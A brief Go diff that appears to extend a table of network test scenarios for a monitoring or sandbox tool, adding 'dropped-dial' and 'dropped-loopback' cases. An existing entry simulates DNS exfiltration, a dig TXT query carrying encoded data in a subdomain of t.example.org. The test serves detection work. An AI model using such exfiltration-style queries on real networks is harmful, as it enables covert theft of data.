@@ -13,6 +13,8 @@ func init() {
 		"dns-exfiltration": {run: named("dig", "+short", "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrt.t.example.org", "TXT")},
 		"dns-query":        {run: named("dig", "+short", "a-name-that-a-person-would-choose.example.org")},
 		"outbound":         {run: outbound, isolated: true},
+		"dropped-dial":     {run: as("provoked", "dial"), isolated: true},
+		"dropped-loopback": {run: as("provoked", "loopback")},
 		"curl-by-hand":     {run: as("curl", "dial"), isolated: true},
 		"service-fetch":    {run: as("nginx", "curl-by-hand")},
 	})
